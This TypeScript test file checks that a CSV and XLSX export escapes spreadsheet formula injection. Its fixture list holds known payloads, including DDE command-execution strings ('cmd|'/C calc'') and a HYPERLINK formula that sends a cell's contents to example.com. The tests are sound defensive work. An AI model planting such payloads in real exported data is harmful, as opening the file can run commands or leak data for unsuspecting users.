import { Buffer } from 'node:buffer'
import { execFile } from 'node:child_process'
import { mkdtemp, rm, readFile, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import fc from 'fast-check'
import { afterEach, beforeEach, expect, test } from 'vitest'
import { defaultCsvOptions, type CsvOptions } from '#shared/lists/export.ts'
import { CellReader } from '../columns/cell-reader.ts'
import { csvWriter } from './csv-writer.ts'
import type { ByteSink, RecordWriter } from './file-output.ts'
import { xlsxWriter } from './xlsx-writer.ts'

let folder: string
beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'clavis-spreadsheet-'))
})
afterEach(() => rm(folder, { recursive: true }))

/** Known formula injections, with the delimiters and quotes around them. */
const wellKnown = [
  '=1+1',
  '=HYPERLINK("https://example.com/?"&A1,"Open")',
  "=cmd|'/C calc'!A0",
  '+1+1',
  '-1+1',
  '-2+3+cmd|"/C calc"!A0',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  'x,=1+1',
  'x;=1+1',
  'x\t=1+1',
  'x\r\n=1+1',
  '","=1+1',
  '"=1+1"',
  '"\r\n=1+1',
  "'=1+1",
  ' =1+1',
]

const paths = ['text', 'list', 'object']
const columns = { paths, names: paths, furtherMembers: false }

/** Writes records with the texts. */
function fileOf(texts: readonly string[], writerFor: (sink: ByteSink) => RecordWriter): Buffer {
  const parts: Uint8Array[] = []
  const writer = writerFor({ write: (part) => void parts.push(Buffer.from(part)) })
  const cells = new CellReader(paths)
  for (const [position, text] of texts.entries()) {
    const record = Buffer.from(JSON.stringify({ list: [text, -1, text], object: { [text]: text }, text }))
    writer.record(record, cells.spans(record), position)
  }
  writer.end()
  return Buffer.concat(parts)
}

function csvOf(texts: readonly string[], options: CsvOptions): Buffer {
  return fileOf(texts, (sink) => csvWriter(sink, columns, options))
}

/** Texts that start or go on like formulas. */
function drawnTexts(): string[] {
  const start = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', '"', "'", ',', ';', '')
  const rest = fc.string({ unit: fc.constantFrom(...Array.from('=+-@1A(),;"\'\t\r\n|!&')), maxLength: 8 })
  return [...wellKnown, ...fc.sample(fc.tuple(start, start, rest), 3000).map((parts) => parts.join(''))]
}

test.each(['comma', 'semicolon', 'tab'] as const)(
  'CSV export: a spreadsheet finds no formula in it, whatever its texts, %s',
  async (delimiter) => {
    const texts = drawnTexts()
    const options: CsvOptions = { ...defaultCsvOptions, delimiter }
    const { formulas, others } = await openInSpreadsheet(csvOf(texts, options), folder)
    expect(formulas).toEqual([])
    expect(others.length).toBeGreaterThan(texts.length)
  },
)

test.each(['comma', 'semicolon', 'tab'] as const)('Spreadsheet: finds unescaped formulas, %s', async (delimiter) => {
  const options: CsvOptions = { ...defaultCsvOptions, delimiter, guardFormulas: false }
  const { formulas } = await openInSpreadsheet(csvOf(wellKnown, options), folder)
  expect(formulas.join(' ')).toContain('hyperlink(')
})

test('XLSX export: a spreadsheet finds no formula in it, and every text, whatever its texts', async () => {
  const texts = drawnTexts()
  const file = fileOf(texts, (sink) => xlsxWriter(sink, columns, []))
  const { formulas, others } = await openInSpreadsheet(file, folder, 'xlsx')
  expect(formulas).toEqual([])
  expect(others).toHaveLength(paths.length * (1 + texts.length))
})

const run = promisify(execFile)

/**
 * Returns the cells that a spreadsheet program (Gnumeric) reads from a file: formulas that it would calculate, and
 * all others.
 * @param folder for its files
 */
async function openInSpreadsheet(
  content: Buffer,
  folder: string,
  extension = 'csv',
): Promise<{ readonly formulas: string[]; readonly others: string[] }> {
  const [file, opened] = [join(folder, `opened.${extension}`), join(folder, 'opened.xml')]
  await writeFile(file, content)
  await run('ssconvert', ['--export-type=Gnumeric_XmlIO:sax:0', file, opened])
  const cells = [...(await readFile(opened, 'utf8')).matchAll(/<gnm:Cell ([^>]*)>([^<]*)<\/gnm:Cell>/gu)]
  const textsOf = (wanted: boolean): string[] =>
    // Only cells that are not formulas have a type.
    cells.filter(([, facts = '']) => !facts.includes('ValueType=') === wanted).map(([, , text = '']) => text)
  return { formulas: textsOf(true), others: textsOf(false) }
}
